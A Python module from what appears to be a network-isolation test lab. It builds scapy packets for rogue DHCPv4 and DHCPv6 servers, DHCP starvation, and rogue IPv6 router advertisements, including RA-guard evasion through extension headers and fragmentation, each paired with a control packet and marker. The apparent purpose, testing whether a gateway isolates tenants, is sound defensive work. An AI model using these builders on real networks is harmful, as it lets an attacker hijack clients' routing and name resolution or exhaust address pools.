"""Offering what only the gateway offers: addresses, routes, names."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping

from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.dhcp6 import DHCP6_Advertise, DHCP6_Reply, DHCP6_Solicit, DHCP6OptStatusCode
from scapy.layers.inet import IP, UDP
from scapy.layers.inet6 import (
    ICMPv6ND_RA,
    ICMPv6ND_RS,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptRDNSS,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    PadN,
)
from scapy.packet import Raw

from lab.attacks.catalogue.draft import Attack, Draft, Make, Packet, Send, Tag, bound
from lab.attacks.catalogue.packets import BROADCAST, ether, multicast_mac, option
from lab.attacks.catalogue.vantage import Vantage, tenants_own
from lab.attacks.ground import NICS, Nic


def _neighbour(where: Vantage) -> Nic:
    return NICS[where.peer]


def _draft(where: Vantage, variant: str, family: int, makes: list[Make], control: Send,
           words: str) -> Draft:  # fmt: skip
    return Draft(
        f"{variant} from {where.name}", family, where.name,
        (control, *(where.send(make) for make in makes)),
        where.elsewhere, words, frozenset({where.net.inside}), needs=where.needs,
    )  # fmt: skip


def advertised(where: Vantage, tag: Tag) -> Packet:
    """A router advertisement, hidden in nothing."""
    return IPv6(src=where.link_local, dst="ff02::1", hlim=255) / _ra(where, tag)


def offered(where: Vantage, kind: str, tag: Tag) -> Packet:
    """A DHCP server's message to all."""
    head = IP(src=where.ip4, dst="255.255.255.255") / UDP(sport=67, dport=68)
    return head / _bootp(where, kind, tag)


def replied(where: Vantage, to: str, tag: Tag) -> Packet:
    """A DHCPv6 server's message to one."""
    head = IPv6(src=where.ip6, dst=to) / UDP(sport=547, dport=546)
    return head / DHCP6_Reply(trid=1) / DHCP6OptStatusCode(statusmsg=tag.data)


# -- DHCPv4 ---------------------------------------------------------------------------------------


def _bootp(where: Vantage, kind: str, tag: Tag) -> Packet:
    """A server's message that makes the attacker router and name server; the marker is the boot
    file's name."""
    head = BOOTP(op=2, yiaddr=where.ip4, siaddr=where.ip4, chaddr=bytes(6), file=tag.data)
    options = [("message-type", kind), ("server_id", where.ip4), ("router", where.ip4),
               ("name_server", where.ip4), "end"]  # fmt: skip
    return head / DHCP(options=options)


def _dhcp4() -> Iterator[Draft]:
    for where in tenants_own():
        neighbour = _neighbour(where)

        def discover(tag: Tag, where: Vantage = where) -> Packet:
            head = BOOTP(op=1, chaddr=bytes.fromhex(where.mac.replace(":", "")), file=tag.data)
            body = head / DHCP(options=[("message-type", "discover"), "end"])
            packet = IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67) / body
            return ether(where.mac, BROADCAST, packet)

        def answer(
            kind: str, ip4: str, mac: str, sport: int, where: Vantage = where
        ) -> Callable[[Tag], Packet]:
            def make(tag: Tag) -> Packet:
                packet = IP(src=where.ip4, dst=ip4) / UDP(sport=sport, dport=68)
                return ether(where.mac, mac, packet / _bootp(where, kind, tag))

            return make

        words = "a client's DHCPDISCOVER reaches the gateway"
        control = where.control(discover)
        for kind in ("offer", "ack", "nak"):
            makes = [answer(kind, "255.255.255.255", BROADCAST, 67),
                     answer(kind, neighbour.ip4, neighbour.mac, 67)]  # fmt: skip
            yield _draft(where, kind, 4, makes, control, words)
        # A client looks at the destination port alone.
        makes = [answer("offer", neighbour.ip4, neighbour.mac, 6767)]
        yield _draft(where, "offer from another port", 4, makes, control, words)

        def options_long(tag: Tag, where: Vantage = where, neighbour: Nic = neighbour) -> Packet:
            from scapy.layers.inet import IPOption_NOP

            packet = IP(src=where.ip4, dst=neighbour.ip4, options=[IPOption_NOP()] * 8)
            body = UDP(sport=67, dport=68) / _bootp(where, "offer", tag)
            return ether(where.mac, neighbour.mac, packet / body)

        yield _draft(where, "offer behind IP options", 4, [options_long], control, words)


def _starvation() -> Iterator[Draft]:
    """Leases for machines that do not exist, until there are none left."""
    for where in tenants_own():
        if not where.pinned:
            continue

        def discover(tag: Tag, mac: str, where: Vantage = where) -> Packet:
            head = BOOTP(op=1, chaddr=bytes.fromhex(mac.replace(":", "")), file=tag.data)
            body = head / DHCP(options=[("message-type", "discover"), "end"])
            packet = IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67) / body
            return ether(where.mac, BROADCAST, packet)

        control = where.control(bound(discover, mac=where.mac))
        words = "a question for its own address reaches the gateway"
        for whose, mac in (
            ("an unknown machine", "02:d1:00:00:ee:02"),
            ("a neighbour", NICS[where.peer].mac),
        ):
            makes = [bound(discover, mac=mac)]
            yield _draft(where, f"for {whose}", 4, makes, control, words)


# -- DHCPv6 ---------------------------------------------------------------------------------------


def _dhcp6() -> Iterator[Draft]:
    for where in tenants_own():
        neighbour = _neighbour(where)

        def ask(tag: Tag, where: Vantage = where) -> Packet:
            packet = IPv6(src=where.link_local, dst="ff02::1:2") / UDP(sport=546, dport=547)
            body = DHCP6_Solicit(trid=1) / DHCP6OptStatusCode(statusmsg=tag.data)
            return ether(where.mac, multicast_mac("ff02::1:2"), packet / body)

        for name, message in (("advertise", DHCP6_Advertise), ("reply", DHCP6_Reply)):
            makes: list[Make] = []
            for to in (neighbour.link_local, neighbour.ip6):
                source = where.link_local if to == neighbour.link_local else where.ip6

                def tell(
                    tag: Tag, to: str = to, source: str = source, where: Vantage = where,
                    message: type = message, neighbour: Nic = neighbour,
                ) -> Packet:  # fmt: skip
                    packet = IPv6(src=source, dst=to) / UDP(sport=547, dport=546)
                    body = message(trid=1) / DHCP6OptStatusCode(statusmsg=tag.data)
                    return ether(where.mac, neighbour.mac, packet / body)

                makes.append(tell)
            words = "a client's DHCPv6 solicit reaches the gateway"
            yield _draft(where, name, 6, makes, where.control(ask), words)


# -- router advertisements ------------------------------------------------------------------------


def _ra(where: Vantage, tag: Tag) -> Packet:
    prefix = ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64)
    names = ICMPv6NDOptRDNSS(dns=[where.link_local])
    return ICMPv6ND_RA(routerlifetime=1800, prf=1) / option(tag) / prefix / names


def _padding(data: bytes = bytes(4)) -> list[Packet]:
    return [PadN(optdata=data)]


def _hidden(where: Vantage, tag: Tag) -> Mapping[str, list[Packet]]:
    """What stands between the IPv6 header and the advertisement (RFC 7113); a list of packets, each
    sent by itself."""
    ra = _ra(where, tag)
    head = IPv6(src=where.link_local, dst="ff02::1", hlim=255)
    whole = bytes(head / ra)[40:]  # with its checksum, which does not cover extension headers
    # The marker is in the first fragment: without it nothing can be put together again.
    chain = bytes(IPv6ExtHdrDestOpt(nh=58, options=_padding(tag.data))) + whole
    cut, first = 24, 40  # the options header alone; the advertisement's own and one option

    def fragment(kind: int, offset: int, more: int) -> Packet:
        return IPv6ExtHdrFragment(nh=kind, offset=offset // 8, m=more, id=tag.port)

    return {
        "plain": [head / ra],
        "behind destination options": [
            head / IPv6ExtHdrDestOpt(nh=58, options=_padding()) / Raw(whole)
        ],
        "behind hop-by-hop options": [
            head / IPv6ExtHdrHopByHop(nh=58, options=_padding()) / Raw(whole)
        ],
        "behind a long chain": [
            head
            / IPv6ExtHdrHopByHop(nh=60, options=_padding())
            / IPv6ExtHdrDestOpt(nh=60, options=_padding(bytes(60)))
            / IPv6ExtHdrDestOpt(nh=60, options=_padding(bytes(60)))
            / IPv6ExtHdrDestOpt(nh=58, options=_padding(bytes(60)))
            / Raw(whole)
        ],
        "in an atomic fragment": [
            head / fragment(58, 0, 0) / Raw(whole)
        ],
        "in two fragments, whole header first": [
            head / fragment(58, 0, 1) / Raw(whole[:first]),
            head
            / fragment(58, first, 0)
            / Raw(whole[first:]),
        ],
        "in the second fragment": [
            head / fragment(60, 0, 1) / Raw(chain[:cut]),
            head / fragment(60, cut, 0) / Raw(chain[cut:]),
        ],
    }  # fmt: skip


_HIDDEN = (
    "plain", "behind destination options", "behind hop-by-hop options", "behind a long chain",
    "in an atomic fragment", "in two fragments, whole header first", "in the second fragment",
)  # fmt: skip


def _adverts() -> Iterator[Draft]:
    for where in tenants_own():

        def ask(tag: Tag, where: Vantage = where) -> Packet:
            packet = IPv6(src=where.link_local, dst="ff02::2", hlim=255) / ICMPv6ND_RS()
            return ether(where.mac, multicast_mac("ff02::2"), packet / option(tag))

        for how in _HIDDEN:
            makes: list[Make] = []
            for place in range(2 if "fragments" in how or "second" in how else 1):

                def tell(
                    tag: Tag, how: str = how, place: int = place, where: Vantage = where
                ) -> Packet:
                    packet = _hidden(where, tag)[how][place]
                    return ether(where.mac, multicast_mac("ff02::1"), packet)

                makes.append(tell)
            words = "a router solicitation reaches the gateway"
            yield _draft(where, how, 6, makes, where.control(ask), words)


ATTACKS = (
    Attack("rogue-dhcpv4", "answers DHCP clients before the gateway does",
           "RFC 2131, 7; CVE-2024-3661 (TunnelVision)", _dhcp4),
    Attack("dhcp-starvation", "asks for addresses in others' names", "RFC 2131, 7; CWE-400",
           _starvation),
    Attack("rogue-dhcpv6", "answers DHCPv6 clients before the gateway does", "RFC 7610", _dhcp6),
    Attack("rogue-ra", "makes itself the default router and name server",
           "RFC 6104; RFC 7113 (evasion of RA guard); RFC 6980", _adverts),
)  # fmt: skip
